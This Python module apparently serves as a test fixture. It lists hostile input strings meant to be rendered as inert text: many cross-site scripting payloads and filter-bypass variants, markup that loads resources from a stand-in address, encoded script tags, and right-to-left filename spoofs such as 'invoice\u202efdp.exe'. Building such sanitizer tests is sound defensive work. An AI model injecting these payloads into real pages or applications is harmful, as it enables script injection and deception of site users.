"""Texts that try to be more than text: markup, scripts, links, broken encodings, turned-around characters."""

from __future__ import annotations

from typing import Final

_FOREIGN: Final = "http://198.51.100.7/x"
"""An address for documentation (RFC 5737): whoever asks for it has been fooled."""

_SCRIPTS: Final = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    f"<script src={_FOREIGN}.js></script>",
    f"<script type=module>import '{_FOREIGN}.js'</script>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)<!--",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "*/alert(1)/*",
    "';alert(1)//",
    '";alert(1)//',
    "`${alert(1)}`",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<%= alert(1) %>",
    "#{alert(1)}",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><img src=x onerror=alert(1)>",
    "</template><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    f'<svg><use href="{_FOREIGN}.svg#x"></svg>',
    "<xss id=x tabindex=1 onfocus=alert(1) autofocus></xss>",
)

_LOADS: Final = (
    f"<img src={_FOREIGN}.png>",
    f"<img srcset='{_FOREIGN}.png 1x'>",
    f"<link rel=stylesheet href={_FOREIGN}.css>",
    f"<link rel=prefetch href={_FOREIGN}>",
    f"<style>@import '{_FOREIGN}.css';</style>",
    f"<style>*{{background:url({_FOREIGN}.png)}}</style>",
    f'<div style="background:url({_FOREIGN}.png)">x</div>',
    f"<iframe src={_FOREIGN}></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f"<object data={_FOREIGN}></object>",
    f"<embed src={_FOREIGN}>",
    f"<video poster={_FOREIGN}.png src={_FOREIGN}.mp4 autoplay></video>",
    f"<audio src={_FOREIGN}.mp3 autoplay></audio>",
    f"<source src={_FOREIGN}>",
    f"<meta http-equiv=refresh content='0;url={_FOREIGN}'>",
    f"<base href={_FOREIGN}/>",
    f"<form action={_FOREIGN}><input type=submit></form>",
    f"<input type=image src={_FOREIGN}.png>",
    f"<body background={_FOREIGN}.png>",
    f"<a href={_FOREIGN} ping={_FOREIGN}>click</a>",
    f"![x]({_FOREIGN}.png)",
    f"[click]({_FOREIGN})",
    "[click](javascript:alert(1))",
    f"<{_FOREIGN}>",
    _FOREIGN,
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "java\tscript:alert(1)",
)

_HANDLERS: Final = tuple(
    f"<{tag} on{event}=alert(1){more}>"
    for tag, event, more in (
        ("img", "error", " src=x"),
        ("img", "load", " src=/assets/favicon.svg"),
        ("body", "load", ""),
        ("svg", "load", ""),
        ("iframe", "load", ""),
        ("input", "focus", " autofocus"),
        ("select", "focus", " autofocus"),
        ("textarea", "focus", " autofocus"),
        ("keygen", "focus", " autofocus"),
        ("video", "error", "><source src=x"),
        ("audio", "error", " src=x"),
        ("details", "toggle", " open"),
        ("marquee", "start", ""),
        ("div", "mouseover", ""),
        ("div", "pointerenter", ""),
        ("div", "animationstart", " style=animation:x"),
        ("div", "transitionend", ""),
        ("button", "click", ""),
        ("form", "submit", ""),
        ("object", "error", " data=x"),
        ("link", "error", " rel=stylesheet href=x"),
        ("style", "load", ""),
        ("script", "error", " src=x"),
        ("body", "hashchange", ""),
        ("body", "pageshow", ""),
        ("dialog", "toggle", " open"),
    )
)

_ENCODED: Final = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "<\u0000script>alert(1)</script>",
    "<scr\u0000ipt>alert(1)</script>",
    "<img\u000csrc=x\u000conerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=\u2028alert(1)>",
    "\ufeff<script>alert(1)</script>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
)

_TURNED: Final = (
    "\u202egnp.exe\u202c",
    "\u2066safe\u2069\u202eevil",
    "invoice\u202efdp.exe",
    "zero\u200bwidth\u200djoin\ufeffbom",
    "bell\u0007 escape\u001b[31m back\u0008",
    "tag\U000e0041\U000e0042characters",
    "private\ue000use",
    "soft\u00adhyphen and no\u00a0break",
    "line\u2028separator\u2029paragraph",
    "Z̵̢͇a̴l̷g̶o̸" * 5,
    "__proto__",
    "constructor",
    "toString",
    "x" * 5_000,
    "line\n" * 300,
    '{"a": 1}',
    "null",
)

HOSTILE: Final = (*_SCRIPTS, *_LOADS, *_HANDLERS, *_ENCODED, *_TURNED)
"""Every one of them must be seen as the text that it is."""
